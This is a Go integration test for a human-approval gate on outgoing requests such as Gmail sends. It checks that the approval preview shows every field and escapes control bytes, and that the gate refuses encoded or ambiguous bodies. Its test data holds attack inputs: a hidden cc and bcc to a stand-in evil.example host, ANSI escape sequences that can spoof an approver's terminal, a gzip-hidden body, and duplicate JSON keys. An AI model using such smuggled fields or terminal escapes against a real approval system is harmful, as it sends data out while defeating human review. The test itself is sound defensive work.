package integration

import (
	"bytes"
	"compress/gzip"
	"net/http"
	"strings"
	"testing"
)

// TestApprovalsShowWhatIsSent replays the attacks on the approval preview:
// what the approver sees is the request as it will leave (every body
// field, every query parameter, the headers, values the spec would redact
// in the audit trail), undeclared fields are marked, control bytes cannot
// reach the terminal, an approval binds the headers too, and requests a
// human cannot judge are refused.
func TestApprovalsShowWhatIsSent(t *testing.T) {
	e := startApprovalEnv(t, map[string]any{"hold": "1s", "max_pending_per_session": 6}, nil)
	tag := randHex(6)
	target := gmailSendURL + "?cc=eve%40evil.example&x=%1b%5b2J%0d"
	body := `{"raw":"UkFXLQ` + tag + `","threadId":"t-` + tag + `","bcc":"eve\u001b[2J@evil.example"}`
	hdr := map[string]string{"Content-Type": "application/json", "X-Note": "n-" + tag}
	before := sends()

	r, err := goSend(e.c, http.MethodPost, target, body, hdr)
	if err != nil {
		t.Fatal(err)
	}
	id := pendingReply(t, "held send", r.Status, r.Header, r.Body)
	show := e.d.cli(t, "approvals", "show", id)
	for _, want := range []string{"?cc=eve%40evil.example&x=%1b%5b2J%0d", "NOT DECLARED:", "query cc, query x, body bcc", `\x1b[2J\r`, "UkFXLQ" + tag,
		"X-Note: n-" + tag, `"bcc": "eve\u001b[2J@evil.example"`, "(not declared)", "(the spec says: header Authorization)"} {
		if !strings.Contains(show, want) {
			t.Errorf("approvals show lacks %q:\n%s", want, show)
		}
	}
	if strings.ContainsAny(show, "\x1b\r") {
		t.Errorf("approvals show printed a raw control byte:\n%q", show)
	}
	if raw := e.d.cli(t, "approvals", "show", id, "--raw"); !strings.HasPrefix(raw, "POST "+gmailSendPath+"?cc=eve%40evil.example&x=%1b%5b2J%0d HTTP/1.1\n") ||
		!strings.Contains(raw, body) {
		t.Errorf("approvals show --raw is not the whole request:\n%s", raw)
	}
	e.d.cli(t, "approvals", "approve", id)

	// The same bytes with one more header are another request. (A media
	// type other than JSON or form never reaches the gate: the operation's
	// inputs describe the body, so it is refused invalid_arguments first.)
	for _, extra := range []map[string]string{{"X-Extra": "1"}, {"Content-Type": "application/json; charset=utf-8"}} {
		h := map[string]string{"Content-Type": "application/json", "X-Note": "n-" + tag}
		for k, v := range extra {
			h[k] = v
		}
		r, err := goSend(e.c, http.MethodPost, target, body, h)
		if err != nil {
			t.Fatal(err)
		}
		if other := pendingReply(t, "approved bytes with other headers", r.Status, r.Header, r.Body); other == id {
			t.Errorf("headers %v joined approval %s of the request without them", extra, id)
		}
	}
	if got := sends() - before; got != 0 {
		t.Fatalf("the upstream received %d sends for requests nobody approved", got)
	}
	r, err = goSend(e.c, http.MethodPost, target, body, hdr)
	if err != nil {
		t.Fatal(err)
	}
	sentReply(t, "the approved request", r.Status, r.Body, body)

	t.Run("refused_unjudgeable", func(t *testing.T) { refusedUnjudgeable(t, e) })
	t.Run("pending_limit", func(t *testing.T) { pendingLimit(t, e) })
}

// refusedUnjudgeable: an encoded body and JSON keys that collide
// case-insensitively (or repeat) are refused before any approval is
// recorded.
func refusedUnjudgeable(t *testing.T, e *approvalEnv) {
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	_, _ = zw.Write([]byte(sendBody("gz-" + randHex(4))))
	_ = zw.Close()
	pending := len(listApprovals(t, e.d, "pending"))
	for _, tc := range []struct {
		name, body, reason string
		hdr                map[string]string
		status             int
		class              string
	}{
		{"gzip", gz.String(), "encoded_body", map[string]string{"Content-Type": "application/json", "Content-Encoding": "gzip"}, 403, "capability_denied"},
		// Keys equal but for case, or repeated, are refused by the argument
		// check, before the gate.
		{"case_collision", `{"raw":"UkFXLQ","RAW":"ZXZpbA"}`, "invalid_arguments", map[string]string{"Content-Type": "application/json"}, 400, "bad_request"},
		{"repeated_key", `{"raw":"UkFXLQ","raw":"ZXZpbA"}`, "invalid_arguments", map[string]string{"Content-Type": "application/json"}, 400, "bad_request"},
	} {
		r, err := goSend(e.c, http.MethodPost, gmailSendURL, tc.body, tc.hdr)
		if err != nil {
			t.Fatal(err)
		}
		assertDenial(t, tc.name, r.Status, r.Body, tc.status, tc.class, tc.reason)
	}
	if got := len(listApprovals(t, e.d, "pending")); got != pending {
		t.Errorf("refused requests recorded approvals: %d pending, %d before", got, pending)
	}
}

// pendingLimit: past approval.max_pending_per_session, a new request is
// refused 429 approval_limit.
func pendingLimit(t *testing.T, e *approvalEnv) {
	for i := 0; ; i++ {
		r, err := goSend(e.c, http.MethodPost, gmailSendURL, sendBody("limit-"+randHex(4)), map[string]string{"Content-Type": "application/json"})
		if err != nil {
			t.Fatal(err)
		}
		if r.Status == http.StatusTooManyRequests {
			assertDenial(t, "one approval too many", r.Status, r.Body, http.StatusTooManyRequests, "limited", "approval_limit")
			if n := len(listApprovals(t, e.d, "pending")); n != 6 {
				t.Errorf("refused at %d pending approvals, want 6 (approval.max_pending_per_session)", n)
			}
			break
		}
		pendingReply(t, "held send", r.Status, r.Header, r.Body)
		if i > 6 {
			t.Fatalf("no approval_limit after %d pending approvals", i+1)
		}
	}
}
